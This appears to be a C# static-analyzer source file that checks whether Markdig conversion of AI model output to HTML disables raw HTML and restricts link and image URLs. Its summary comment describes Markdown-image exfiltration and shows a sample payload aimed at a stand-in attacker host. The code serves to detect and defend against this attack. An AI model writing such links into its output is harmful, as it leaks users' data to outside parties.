using System.Linq;
using AiThreatGate.Analyzers.Taint;
using Microsoft.CodeAnalysis;
using Microsoft.CodeAnalysis.CSharp.Syntax;
using Microsoft.CodeAnalysis.Operations;

namespace AiThreatGate.Analyzers.Apis;

/// <summary>
/// Markdig's Markdown-to-HTML conversion (<c>Markdown.ToHtml</c>) on the way from model output to an HTML sink, and
/// what makes it safe. Markdig passes raw HTML in the Markdown through unless the pipeline was built with
/// <c>DisableHtml()</c>; and even then the links and images the model writes (<c>![x](https://attacker/?d=…)</c>) reach
/// the page, where the browser loads them: a data-exfiltration channel that no HTML encoding closes. The conversion
/// counts as sanitizing only when both are handled: HTML disabled and link and image URLs restricted.
/// </summary>
/// <remarks>
/// Read from syntax, where the pipeline and the document are set up: the pipeline argument itself, the declaration of
/// the local, field or property it names, and, for a local, the member that declares it (<c>builder.DisableHtml();</c>).
/// URL restriction is recognized when the member rewriting the document, or the pipeline's <c>DocumentProcessed</c>
/// handler, walks its <c>LinkInline</c>s (<c>Descendants&lt;LinkInline&gt;()</c>) and rewrites or removes them
/// (assigns <c>Url</c>, calls <c>Remove</c> or <c>ReplaceBy</c>). A pipeline passed in from elsewhere is taken as
/// Markdig's default (HTML on), and a custom renderer or extension is not recognized.
/// </remarks>
internal static class MarkdownRendering
{
    /// <summary>How a Markdig conversion treats model output: raw HTML passes, HTML is disabled but links are not restricted, or both are handled.</summary>
    public enum Safety
    {
        RawHtml,
        LinksUnrestricted,
        Restricted,
    }

    /// <summary>Whether <paramref name="operation"/> is a <c>Markdig.Markdown.ToHtml</c> call.</summary>
    public static bool IsConversion(IOperation operation) =>
        operation is IInvocationOperation { TargetMethod: { Name: "ToHtml", ContainingType: { Name: "Markdown", ContainingNamespace: { Name: "Markdig", ContainingNamespace.IsGlobalNamespace: true } } } };

    /// <summary>A conversion that disables raw HTML and restricts link and image URLs: sanitizes model output for an HTML sink.</summary>
    public static bool IsRestrictedConversion(IOperation operation) =>
        IsConversion(operation) && SafetyOf((IInvocationOperation)operation) == Safety.Restricted;

    /// <summary>What a conversion lets through (see <see cref="MarkdownRendering"/>).</summary>
    public static Safety SafetyOf(IInvocationOperation conversion)
    {
        var pipeline = TaintSinkRule.Argument(conversion.Arguments, "pipeline");
        var pipelineSetup = Setup(pipeline);
        if (!pipelineSetup.Any(node => Calls(node, "DisableHtml")))
        {
            return Safety.RawHtml;
        }

        // The document's links are rewritten where it is parsed, or by the pipeline's DocumentProcessed handler.
        var document = TaintSinkRule.Argument(conversion.Arguments, "document");
        var documentSetup = document is null ? Enumerable.Empty<SyntaxNode>() : Setup(document);
        return pipelineSetup.Concat(documentSetup).Any(RestrictsLinks) ? Safety.Restricted : Safety.LinksUnrestricted;
    }

    // The syntax that sets up a value: its own expression, the declaration of the symbol it names, and for a local the
    // member declaring it (builder calls are statements there).
    private static SyntaxNode[] Setup(IOperation? value)
    {
        if (value is null || value.ConstantValue.HasValue)
        {
            return System.Array.Empty<SyntaxNode>();
        }

        var unwrapped = ValueFlow.Unwrap(value);
        var symbol = ValueFlow.ReferencedSymbol(unwrapped);
        if (symbol is null)
        {
            return new[] { value.Syntax };
        }

        var declarations = symbol.DeclaringSyntaxReferences.Select(reference => reference.GetSyntax()).ToList();
        if (symbol is ILocalSymbol)
        {
            declarations = declarations.Select(Member).ToList();
        }

        declarations.Add(value.Syntax);
        return declarations.ToArray();
    }

    private static SyntaxNode Member(SyntaxNode node) =>
        (SyntaxNode?)node.FirstAncestorOrSelf<MemberDeclarationSyntax>() ?? node.SyntaxTree.GetRoot();

    private static bool Calls(SyntaxNode node, string name) =>
        node.DescendantNodesAndSelf().OfType<InvocationExpressionSyntax>().Any(invocation => NameOf(invocation.Expression) == name);

    // foreach (var link in document.Descendants<LinkInline>()) { link.Url = Allowed(link.Url) ? link.Url : "#"; }
    private static bool RestrictsLinks(SyntaxNode node)
    {
        var scope = node is MemberDeclarationSyntax or CompilationUnitSyntax ? node : Member(node);
        var walksLinks = scope.DescendantNodes().OfType<GenericNameSyntax>()
            .Any(generic => generic.Identifier.ValueText is "Descendants" or "OfType" && generic.TypeArgumentList.Arguments.Any(type => NameOf(type) == "LinkInline"));
        if (!walksLinks)
        {
            return false;
        }

        return scope.DescendantNodes().Any(candidate => candidate switch
        {
            AssignmentExpressionSyntax { Left: MemberAccessExpressionSyntax { Name.Identifier.ValueText: "Url" } } => true,
            InvocationExpressionSyntax invocation => NameOf(invocation.Expression) is "Remove" or "ReplaceBy",
            _ => false,
        });
    }

    private static string? NameOf(SyntaxNode expression) => expression switch
    {
        MemberAccessExpressionSyntax access => access.Name.Identifier.ValueText,
        SimpleNameSyntax name => name.Identifier.ValueText,
        QualifiedNameSyntax qualified => qualified.Right.Identifier.ValueText,
        _ => null,
    };
}
